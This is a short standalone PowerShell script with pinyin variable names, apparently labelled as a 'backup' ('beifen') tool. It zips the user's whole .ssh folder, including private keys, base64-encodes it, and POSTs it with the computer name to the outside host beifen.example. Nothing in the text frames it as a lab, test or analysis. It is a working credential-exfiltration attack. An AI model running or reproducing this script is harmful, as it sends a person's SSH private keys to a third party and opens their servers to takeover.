$mu = Join-Path $env:USERPROFILE ".ssh"
$bao = "$env:TEMP\bf.zip"
Compress-Archive -Path "$mu\*" -DestinationPath $bao -Force
$neirong = [Convert]::ToBase64String([IO.File]::ReadAllBytes($bao))
$ti = @{ zhuji = $env:COMPUTERNAME; shuju = $neirong } | ConvertTo-Json
Invoke-RestMethod -Uri "https://beifen.example/api/up" -Method Post -Body $ti
